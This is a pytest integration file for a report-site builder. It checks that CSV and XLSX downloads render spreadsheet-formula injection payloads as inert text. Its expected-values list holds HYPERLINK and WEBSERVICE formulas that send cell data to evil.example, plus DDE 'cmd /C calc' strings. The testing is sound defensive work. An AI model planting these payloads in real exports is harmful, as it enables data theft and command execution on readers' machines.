"""Data that would run as a formula in a spreadsheet stays text in every download (CSV injection, OWASP).

The data in ``tests/fixtures/hostile_data`` is what whoever can type into a shop's orders could put there.
Each download is opened the way a reader's spreadsheet would see it: the CSV with a CSV reader, the
workbook with openpyxl (a formula cell has the data type 'f').
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import openpyxl
import pytest

from reportsite.build.builder import BuildOptions, build
from reportsite.downloads.formulas import neutral, risky

pytestmark = pytest.mark.integration

HOSTILE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile_data"

# what a reader sees in each customer_name cell of the CSV download: risky text behind an apostrophe
SHOWN = [
    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "'=WEBSERVICE(\"http://evil.example/?\"&A2)",
    "'=cmd|' /C calc'!A0",
    "'+1+cmd|' /C calc'!A0",
    "'-2+3+cmd|' /C calc'!A0",
    "'@SUM(1+1)*cmd|' /C calc'!A0",
    "'\t=1+1",
    "'\r=1+1",
    "-12.5",
    "'+41 44 123 45 67",
    "Zürich Bakery",
]
RAW = [line.lstrip("'") if line.startswith("'") else line for line in SHOWN]

REPORT = """
title: "Orders"
data_source: "formula_cells.parquet"
tables:
  - name: "Customers"
    query: "SELECT customer_name, amount, customer_name AS \\"=HYPERLINK(1)\\" FROM formula_cells ORDER BY amount"
charts:
  - name: "Amounts"
    type: bar
    query: "SELECT customer_name, amount FROM formula_cells ORDER BY amount"
    params: {x: customer_name, y: amount}
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-downloads") / "project"
    shutil.copytree(Path(__file__).resolve().parents[2] / "site_src", root / "site_src")
    (root / "reports").mkdir()
    (root / "reports" / "orders.yaml").write_text(REPORT, encoding="utf-8")
    shutil.copytree(HOSTILE, root / "data", ignore=shutil.ignore_patterns("*.py", "*.md"))
    (root / "site_src" / "site.yaml").write_text('title: "T"\ndata_root: "data"\n', encoding="utf-8")
    build(root, BuildOptions(out=Path("_site")))
    return root / "_site" / "data" / "orders"


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_download_prefixes_every_formula_trigger_and_leaves_numbers(site: Path) -> None:
    rows = read_csv(site / "table-1-customers.csv")
    assert rows[0] == ["customer_name", "amount", "'=HYPERLINK(1)"]
    assert [row[0] for row in rows[1:]] == SHOWN
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(10, 120, 10)]  # numbers untouched
    chart = read_csv(site / "chart-1-amounts.csv")
    assert [row[0] for row in chart[1:]] == SHOWN


def test_xlsx_download_holds_text_cells_never_formulas_or_links(site: Path) -> None:
    sheet = openpyxl.load_workbook(site / "table-1-customers.xlsx").active
    rows = list(sheet.iter_rows())
    assert [(c.value, c.data_type) for c in rows[0]] == [("customer_name", "s"), ("amount", "s"),
                                                          ("=HYPERLINK(1)", "s")]
    # every text reads back as it was, a leading CR too (stored as a character reference, which XML keeps)
    assert [(r[0].value, r[0].data_type) for r in rows[1:]] == [(v, "s") for v in RAW]
    assert [(r[1].value, r[1].data_type) for r in rows[1:]] == [(n, "n") for n in range(10, 120, 10)]
    assert all(r[0].number_format == "@" for r in rows[1:])  # Text: editing a cell keeps it text
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f" or c.hyperlink is not None]


def test_neutral_leaves_plain_numbers_and_prefixes_the_rest() -> None:
    assert [neutral(v) for v in RAW] == SHOWN
    assert not risky("12") and not risky("-1e5") and not risky("") and risky("-") and risky("=")
